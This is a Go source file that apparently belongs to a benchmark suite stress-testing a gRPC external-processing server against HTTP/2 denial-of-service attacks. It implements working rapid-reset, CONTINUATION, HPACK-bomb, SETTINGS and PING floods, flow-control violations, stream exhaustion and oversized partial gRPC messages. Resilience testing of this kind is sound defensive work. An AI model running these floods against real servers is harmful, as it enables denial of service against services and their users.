package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	extprocv3 "github.com/envoyproxy/go-control-plane/envoy/service/ext_proc/v3"
	"golang.org/x/net/http2"

	"github.com/infergate/infergate/bench/extprocload"
)

// target is what an attack is aimed at, and its bounds.
type target struct {
	addr  string
	scale float64
	// rate is the operations per second the attack offers, 0 as fast as
	// the server takes them.
	rate float64
	// start and until are the attack's active phase (flooding, opening
	// streams).
	start, until time.Time
	// hold is how long an attack that leaves streams open keeps them,
	// after its active phase.
	hold time.Duration
	obs  *observer
}

// n scales an attack's count.
func (t target) n(base int) int { return max(1, int(float64(base)*t.scale)) }

func (t target) active() bool { return time.Now().Before(t.until) }

// writeDeadline bounds a flood's writes, so that one into a server that
// stopped reading ends on time; the last batch, due just before the end
// of the active phase, may be written as late as any other.
func (t target) writeDeadline() time.Time { return t.until.Add(lagAllowed) }

// pace schedules the attack's n operations over its active phase.
func (t target) pace(n int) *pacer { return newPacer(t.rate, n, t.start, t.until) }

// outcome is what an attack did, in operations (the attack's own unit):
// offered, those the schedule had due in the active phase; sent, those
// that got onto the wire (a run that sent nothing measured nothing; one
// that sent fewer than offered fell behind: the server, or the machine,
// did not take them in time). note is a few words on it for the table.
type outcome struct {
	rate          float64 // operations per second; 0: closed loop
	offered, sent int64
	note          string
}

// keptUp says whether (nearly) every operation offered got onto the
// wire: a timer late at the very end or a batch lost to a connection the
// server ended costs a few, a server that cannot keep up far more.
func (o outcome) keptUp() bool {
	return o.rate > 0 && float64(o.sent) >= keptUpShare*float64(o.offered)
}

const keptUpShare = 0.95

// attack is one row of the suite.
type attack struct {
	name string
	// does says what the attack sends, for the printed legend; op what one
	// operation of it is, the unit it is paced and counted in.
	does, op string
	// rate is the operations per second the driver offers by default
	// (times --rate-scale), chosen on the shared two-core machine the
	// suite runs on so that grpc-go takes all of it with room to spare
	// and the two transports get the same work. The floods offer a tenth
	// to a third of what they reached against grpc-go closed loop; the
	// attacks that open streams, their count at scale 10 spread over the
	// driver's 5 s active phase (closed loop, they open it faster);
	// window-violation 2 streams a second, of the 3.4 grpc-go took closed
	// loop (each stream waits 300 ms for grants that never come). At 4×
	// these rates grpc-go still took all of every attack but three:
	// hpack-bomb and window-violation, bounded by its own work at about
	// 160 header blocks and 3.4 streams a second, and settings-flood-unread,
	// by the ACKs left unread in the sockets at about 750k frames.
	// continuation-large offers a sixteenth: h2 ends such a connection
	// after the first write of 8 frames, so that each write needs a new
	// connection, and 312 a second is about what the test's
	// race-instrumented attacker can make.
	rate float64
	run  func(ctx context.Context, t target) (outcome, error)
}

// attacks is the suite, in the order. Each row says what one
// operation is, and offers it by default at the rate given (see the
// attack type for how the rates were chosen).
func attacks() []attack {
	return []attack{
		{"rapid-reset", "HEADERS then RST_STREAM(CANCEL) for stream after stream, up to 100 streams a write, reconnecting when closed (200k × scale streams)",
			"a stream opened and reset", 20_000, rapidReset},
		{"continuation-large", "HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames of 1 KiB literal header fields, 8 a write, reconnecting when closed (20k × scale frames)",
			"a 16 KiB CONTINUATION frame", 2_500, continuationFlood(true)},
		{"continuation-empty", "HEADERS without END_HEADERS, then empty CONTINUATION frames, which never add to the header list, 8,192 a write (20M × scale frames)",
			"an empty CONTINUATION frame", 1_000_000, continuationFlood(false)},
		{"hpack-bomb", "a 4,038-byte header inserted into the HPACK dynamic table once a connection, then 16 KiB header blocks of 1-byte references to it (64 MiB decoded each; 2k × scale streams), 4 a write, reconnecting when closed",
			"a 16 KiB header block (a stream)", 50, hpackBomb},
		{"settings-flood-unread", "SETTINGS frames changing SETTINGS_INITIAL_WINDOW_SIZE, 1,000 a write, the ACKs never read (1M × scale frames)",
			"a SETTINGS frame", 50_000, controlFlood(http2.FrameSettings, false)},
		{"settings-flood-read", "SETTINGS frames changing SETTINGS_INITIAL_WINDOW_SIZE, 1,000 a write, the ACKs read (1M × scale frames)",
			"a SETTINGS frame", 200_000, controlFlood(http2.FrameSettings, true)},
		{"ping-flood-unread", "PING frames, 1,000 a write, the ACKs never read, reconnecting when closed (1M × scale frames)",
			"a PING frame", 200_000, controlFlood(http2.FramePing, false)},
		{"ping-flood-read", "PING frames, 1,000 a write, the ACKs read, reconnecting when closed (1M × scale frames)",
			"a PING frame", 200_000, controlFlood(http2.FramePing, true)},
		{"beyond-max-streams", "streams past SETTINGS_MAX_CONCURRENT_STREAMS (1k × scale more than announced, all of them if none is), each with its request headers message, up to 16 a write, held open",
			"a stream opened with its request headers message", 2_000, beyondMaxStreams},
		{"zero-window-hold", "stream window 0 announced, then requests with 32 KiB bodies whose answers can never be sent, up to 16 a write, held open (200 × scale streams)",
			"a stream opened with a 32 KiB request", 400, zeroWindowHold},
		{"window-violation", "stream window 0 announced (answers pile up), response body chunks sent within the server's windows until it stops granting, then 16 MiB more DATA past them (4 × scale streams)",
			"a stream filling the server's windows, then writing past them until reset or 16 MiB", 2, windowViolation},
		{"length-4gib", "a gRPC message prefix announcing 0xFFFFFFFF bytes and 100 bytes of it, up to 16 streams a write, held open (200 × scale streams)",
			"a stream opened with its partial message", 400, partialMessage(200, 0xFFFFFFFF, 100, "announced a 4 GiB message and sent 100 bytes of it")},
		{"announced-unsent", "a gRPC message prefix announcing 4 MiB − 16 bytes and 35 bytes of it, up to 16 streams a write, held open (250 × scale streams)",
			"a stream opened with its partial message", 500, partialMessage(250, 4<<20-16, 35, "announced a 4 MiB message and sent 35 bytes of it")},
	}
}

// overConns runs batch on connection after connection (the server may
// close one, or tell it to go away) while p has operations to offer. It
// returns the connections used, and why a new one could not be made if
// that ended the attack early.
func overConns(ctx context.Context, t target, opts connOptions, p *pacer, batch func(c *rawConn) error) (int, error) {
	conns := 0
	for p.more() && ctx.Err() == nil {
		c, err := dial(ctx, t.addr, t.obs, opts)
		if err != nil {
			return conns, err
		}
		conns++
		for p.more() && c.alive() {
			if err := batch(c); err != nil {
				break
			}
		}
		if opts.sync && c.alive() {
			// Past the active phase, writes would fail at its deadline.
			if dl, ok := ctx.Deadline(); ok {
				_ = c.nc.SetWriteDeadline(dl)
			}
			c.sync(ctx)
		}
		c.close()
	}
	return conns, nil
}

// unreachable is the note for an attack the server stopped taking
// connections from, or the error when it never took one.
func unreachable(conns int, err error) (string, error) {
	if err == nil {
		return "", nil
	}
	if conns == 0 {
		return "", err
	}
	return fmt.Sprintf("; a new connection failed: %v", err), nil
}

// takeFor takes the operations due for a connection (at most most), or
// says why there are none to write on it: the attack's operations are all
// offered, or the server ended the connection while the attack waited
// (the operations are then the next connection's).
func takeFor(ctx context.Context, p *pacer, c *rawConn, most int) (int, error) {
	k := p.take(ctx, most)
	switch {
	case k == 0:
		return 0, errPaceOver
	case !c.alive():
		p.back(k)
		return 0, errConnEnded
	}
	return k, nil
}

func rapidReset(ctx context.Context, t target) (outcome, error) {
	p := t.pace(t.n(200_000))
	conns, err := overConns(ctx, t, connOptions{read: true, sync: true, writeDeadline: t.writeDeadline()}, p, func(c *rawConn) error {
		k, err := takeFor(ctx, p, c, 100)
		if err != nil {
			return err
		}
		for range k {
			id := c.id()
			_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndHeaders: true})
			_ = c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		return p.flush(c, k)
	})
	tail, err := unreachable(conns, err)
	return p.outcome(fmt.Sprintf("%d streams opened and reset in %.1f s over %d connections%s", p.sent, time.Since(t.start).Seconds(), conns, tail)), err
}

// literalField is a header field as a literal never indexed with a new
// name and no Huffman coding (RFC 7541 section 6.2.3), so that its length
// on the wire is exactly known.
func literalField(name, value string) []byte {
	b := hpackInt([]byte{0x10, 0}, 7, uint64(len(name)))
	b = append(b, name...)
	b = hpackInt(append(b, 0), 7, uint64(len(value)))
	return append(b, value...)
}

// hpackInt appends v as an HPACK integer with an n-bit prefix to b, whose
// last byte holds the prefix's other bits (RFC 7541 section 5.1).
func hpackInt(b []byte, n uint, v uint64) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		b[len(b)-1] |= byte(v)
		return b
	}
	b[len(b)-1] |= byte(limit)
	for v -= limit; v >= 128; v >>= 7 {
		b = append(b, byte(v&0x7f|0x80))
	}
	return append(b, byte(v))
}

// floodFragment is a 16 KiB header block fragment of 16 literal fields
// of 1,024 bytes each, so that every CONTINUATION frame of it ends where
// a field does.
func floodFragment() []byte {
	f := literalField("x-flood", strings.Repeat("f", 1012))
	return bytes.Repeat(f, 16<<10/len(f))
}

func continuationFlood(large bool) func(ctx context.Context, t target) (outcome, error) {
	return func(ctx context.Context, t target) (outcome, error) {
		var frag []byte
		n, perWrite := t.n(20_000_000), 8192
		if large {
			frag, n, perWrite = floodFragment(), t.n(20_000), 8
		}
		p := t.pace(n)
		conns, err := overConns(ctx, t, connOptions{read: true, writeDeadline: t.writeDeadline()}, p, func(c *rawConn) error {
			id := c.id()
			_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block})
			for {
				k, err := takeFor(ctx, p, c, perWrite)
				if err != nil {
					return err
				}
				for range k {
					_ = c.fr.WriteContinuation(id, false, frag)
				}
				if err := p.flush(c, k); err != nil || !c.alive() {
					return errConnEnded
				}
			}
		})
		tail, err := unreachable(conns, err)
		wire := p.sent * int64(9+len(frag))
		return p.outcome(fmt.Sprintf("%d frames (%s) written over %d connections%s", p.sent, mib(wire), conns, tail)), err
	}
}

func maxOf(xs []int64) int64 {
	m := xs[0]
	for _, x := range xs[1:] {
		m = max(m, x)
	}
	return m
}

// bombEntry is the header the HPACK bomb inserts: 4,038 bytes of the
// decoder's default 4,096-byte dynamic table (name, value and 32 bytes of
// overhead), so that it fits and stays the one entry, index 62.
const (
	bombName  = "x-bomb"
	bombValue = 4000
	bombRef   = 0x80 | 62 // an indexed header field, dynamic entry 1
)

// bombInsert is the bomb's entry as a literal with incremental indexing
// and a new name (RFC 7541 section 6.2.1), no Huffman coding.
func bombInsert() []byte {
	b := []byte{0x40, 0}
	b = hpackInt(b, 7, uint64(len(bombName)))
	b = append(b, bombName...)
	b = hpackInt(append(b, 0), 7, bombValue)
	return append(b, strings.Repeat("b", bombValue)...)
}

func hpackBomb(ctx context.Context, t target) (outcome, error) {
	p := t.pace(t.n(2_000))
	var refs int64         // references written, each decoding to the whole entry
	const frame = 16 << 10 // both servers' SETTINGS_MAX_FRAME_SIZE
	insert := bombInsert()
	conns, err := overConns(ctx, t, connOptions{read: true, sync: true, writeDeadline: t.writeDeadline()}, p, func(c *rawConn) error {
		// The table is the connection's: each new one gets the entry
		// again with its first block.
		for first := true; ; {
			k, err := takeFor(ctx, p, c, 4)
			if err != nil {
				return err
			}
			var r int64
			for range k {
				block := append([]byte(nil), c.block...)
				if first {
					block = append(block, insert...)
					first = false
				}
				r += int64(frame - len(block))
				block = append(block, bytes.Repeat([]byte{bombRef}, frame-len(block))...)
				_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id(), BlockFragment: block, EndHeaders: true, EndStream: true})
			}
			if err := p.flush(c, k); err != nil {
				return errConnEnded
			}
			refs += r
			if !c.alive() {
				return errConnEnded
			}
		}
	})
	tail, err := unreachable(conns, err)
	return p.outcome(fmt.Sprintf("%d header blocks (%d GiB of header fields once decoded) over %d connections%s", p.sent, refs*int64(bombValue+len(bombName))>>30, conns, tail)), err
}

func controlFlood(typ http2.FrameType, read bool) func(ctx context.Context, t target) (outcome, error) {
	return func(ctx context.Context, t target) (outcome, error) {
		p := t.pace(t.n(1_000_000))
		written := 0 // frames written, for each one's distinct content
		conns, err := overConns(ctx, t, connOptions{read: read, sync: read, writeDeadline: t.writeDeadline()}, p, func(c *rawConn) error {
			k, err := takeFor(ctx, p, c, 1000)
			if err != nil {
				return err
			}
			for range k {
				if typ == http2.FramePing {
					var data [8]byte
					binary.BigEndian.PutUint64(data[:], uint64(written))
					_ = c.fr.WritePing(false, data)
				} else {
					// A real setting, changed every time: the server
					// applies it to every stream of the connection.
					_ = c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1 - uint32(written%2)})
				}
				written++
			}
			return p.flush(c, k)
		})
		tail, err := unreachable(conns, err)
		what := "PING"
		if typ == http2.FrameSettings {
			what = "SETTINGS"
		}
		return p.outcome(fmt.Sprintf("%d %s frames written over %d connections%s", p.sent, what, conns, tail)), err
	}
}

// holdOpen keeps an attack's streams open for t.hold after its active
// phase, as an attacker keeps them to hold what they cost the server.
func holdOpen(ctx context.Context, t target) {
	select {
	case <-ctx.Done():
	case <-time.After(t.hold):
	}
}

// openEach opens the streams p offers on one connection, writing each
// one's messages within the server's windows, while the active phase
// lasts; p counts those that got onto the wire.
func openEach(ctx context.Context, t target, p *pacer, c *rawConn, msgs ...[]byte) error {
	// A window the server never grants must not hold the attack past its
	// active phase.
	ctx, cancel := context.WithDeadline(ctx, t.writeDeadline())
	defer cancel()
	for {
		k, err := takeFor(ctx, p, c, 16)
		switch {
		case errors.Is(err, errPaceOver):
			return nil
		case err != nil:
			return err
		}
		for range k {
			id := c.id()
			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndHeaders: true}); err != nil {
				return err
			}
			for _, m := range msgs {
				if err := c.send(ctx, id, m); err != nil && !errors.Is(err, errStreamEnded) {
					return err
				}
			}
		}
		if err := p.flush(c, k); err != nil {
			return err
		}
	}
}

// heldNote says how the streams an attack held fared.
func heldNote(t target, opened int64, what string) string {
	ended := int64(t.obs.endedCount())
	return fmt.Sprintf("%d streams %s; %d ended by the server, %d still open after the %.1f s hold", opened, what, ended, max(opened-ended, 0), t.hold.Seconds())
}

func beyondMaxStreams(ctx context.Context, t target) (outcome, error) {
	c, err := dial(ctx, t.addr, t.obs, connOptions{read: true})
	if err != nil {
		return outcome{}, err
	}
	defer c.close()
	announced := c.announcedMaxStreams()
	extra := t.n(1_000)
	n, limit := extra, "announces no SETTINGS_MAX_CONCURRENT_STREAMS"
	if announced >= 0 {
		n, limit = int(announced)+extra, fmt.Sprintf("announces SETTINGS_MAX_CONCURRENT_STREAMS %d", announced)
	}
	hm, err := extprocload.Frame(extprocload.HeadersMessage(1024))
	if err != nil {
		return outcome{}, err
	}
	p := t.pace(n)
	note := ""
	if err := openEach(ctx, t, p, c, hm); err != nil {
		note = fmt.Sprintf(" (opening stopped: %v)", err)
	}
	holdOpen(ctx, t)
	return p.outcome(fmt.Sprintf("the server %s; %s%s", limit, heldNote(t, p.sent, "opened, each past its request headers"), note)), nil
}

const victimModel = "meta-llama/Llama-3.1-8B-Instruct"

func zeroWindowHold(ctx context.Context, t target) (outcome, error) {
	req, err := extprocload.Chat(victimModel, 32<<10, 0)
	if err != nil {
		return outcome{}, err
	}
	hm, err := extprocload.Frame(extprocload.HeadersMessage(req.Size()))
	if err != nil {
		return outcome{}, err
	}
	bm, err := extprocload.Frame(&extprocv3.ProcessingRequest{Request: &extprocv3.ProcessingRequest_RequestBody{
		RequestBody: &extprocv3.HttpBody{Body: req.Chunks[0], EndOfStream: true}}})
	if err != nil {
		return outcome{}, err
	}
	c, err := dial(ctx, t.addr, t.obs, connOptions{read: true, zeroWindow: true})
	if err != nil {
		return outcome{}, err
	}
	defer c.close()
	p := t.pace(t.n(200))
	note := ""
	if err := openEach(ctx, t, p, c, hm, bm); err != nil {
		note = fmt.Sprintf(" (opening stopped: %v)", err)
	}
	holdOpen(ctx, t)
	t.obs.mu.Lock()
	got := t.obs.dataBytes
	t.obs.mu.Unlock()
	return p.outcome(fmt.Sprintf("%s; %s of answers reached us%s", heldNote(t, p.sent, "sent a 32 KiB request whose answer cannot be sent"), mib(got), note)), nil
}

// responsePhase are the messages of a request already decided and of its
// response's headers, after which response body chunks may come: the
// payload processor answers each chunk with itself.
func responsePhase() ([][]byte, []byte, error) {
	req, err := extprocload.Chat(victimModel, 1024, 0)
	if err != nil {
		return nil, nil, err
	}
	var out [][]byte
	for _, m := range []*extprocv3.ProcessingRequest{
		extprocload.HeadersMessage(req.Size()),
		{Request: &extprocv3.ProcessingRequest_RequestBody{RequestBody: &extprocv3.HttpBody{Body: req.Chunks[0], EndOfStream: true}}},
		{Request: &extprocv3.ProcessingRequest_ResponseHeaders{ResponseHeaders: &extprocv3.HttpHeaders{Headers: &corev3.HeaderMap{Headers: []*corev3.HeaderValue{
			{Key: ":status", RawValue: []byte("200")}, {Key: "content-type", RawValue: []byte("text/event-stream")}}}}}},
	} {
		b, err := extprocload.Frame(m)
		if err != nil {
			return nil, nil, err
		}
		out = append(out, b)
	}
	chunk, err := extprocload.Frame(&extprocv3.ProcessingRequest{Request: &extprocv3.ProcessingRequest_ResponseBody{
		ResponseBody: &extprocv3.HttpBody{Body: bytes.Repeat([]byte("data: {\"choices\":[{\"delta\":{\"content\":\"token \"}}]}\n\n"), 64<<10/48)}}})
	return out, chunk, err
}

func windowViolation(ctx context.Context, t target) (outcome, error) {
	setup, chunk, err := responsePhase()
	if err != nil {
		return outcome{}, err
	}
	const excess = 16 << 20
	// stall is how long the server may grant nothing before it is taken
	// to have stopped granting (its windows are spent).
	const stall = 300 * time.Millisecond
	p := t.pace(t.n(4)) // a stream each
	var (
		c        *rawConn
		pushed   int64 // DATA written past the windows, all streams
		reacted  []int64
		inWindow int64 // DATA written within the windows
		conns    int
	)
	defer func() {
		if c != nil {
			c.close()
		}
	}()
	for p.take(ctx, 1) > 0 {
		if c == nil || !c.alive() {
			if c != nil {
				c.close()
			}
			if c, err = dial(ctx, t.addr, t.obs, connOptions{read: true, zeroWindow: true}); err != nil {
				tail, err := unreachable(conns, err)
				return p.outcome(fmt.Sprintf("%s past the windows%s", mib(pushed), tail)), err
			}
			conns++
		}
		id := c.id()
		_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndHeaders: true})
		for _, m := range setup {
			if err := c.send(ctx, id, m); err != nil {
				break
			}
		}
		// The stream is on the wire once its request and response
		// headers are; what follows is how far the server lets it go.
		_ = p.flush(c, 1)
		// Within the windows, until the server stops granting: the
		// answers it cannot send (our window is 0) hold its credit back.
		var rest []byte
		for t.active() {
			if len(rest) == 0 {
				rest = chunk
			}
			n, err := c.take(ctx, id, len(rest), stall)
			if err != nil || n == 0 {
				break
			}
			_ = c.fr.WriteData(id, false, rest[:n])
			rest = rest[n:]
			inWindow += int64(n)
			if err := c.flushFull(); err != nil {
				break
			}
		}
		if c.streamEnded(id) || !c.alive() {
			continue // the server ended it before its windows ran out
		}
		// Past them: the server must reset the stream or close the
		// connection, not hold what it never granted.
		var over int64
		for over < excess && t.active() && !c.streamEnded(id) && c.alive() {
			for range 16 {
				if len(rest) == 0 {
					rest = chunk
				}
				n := min(len(rest), 16<<10)
				_ = c.fr.WriteData(id, false, rest[:n])
				rest = rest[n:]
				over += int64(n)
			}
			if err := c.flush(); err != nil {
				break
			}
		}
		pushed += over
		if c.streamEnded(id) || c.serverEnded() {
			reacted = append(reacted, over)
		}
	}
	note := fmt.Sprintf("%d streams over %d connections: %s within the windows, then %s past them", p.sent, conns, mib(inWindow), mib(pushed))
	if len(reacted) > 0 {
		note += fmt.Sprintf("; %d of them stopped by the server, each after we had written at most %s past", len(reacted), mib(maxOf(reacted)))
	}
	return p.outcome(note), nil
}

// partialMessage opens streams each sending the start of a gRPC message
// that announces size bytes: its prefix and have bytes of it.
func partialMessage(base int, size uint32, have int, what string) func(ctx context.Context, t target) (outcome, error) {
	return func(ctx context.Context, t target) (outcome, error) {
		msg := make([]byte, 5+have)
		binary.BigEndian.PutUint32(msg[1:5], size)
		c, err := dial(ctx, t.addr, t.obs, connOptions{read: true})
		if err != nil {
			return outcome{}, err
		}
		defer c.close()
		p := t.pace(t.n(base))
		note := ""
		if err := openEach(ctx, t, p, c, msg); err != nil {
			note = fmt.Sprintf(" (opening stopped: %v)", err)
		}
		holdOpen(ctx, t)
		return p.outcome(heldNote(t, p.sent, what) + note), nil
	}
}
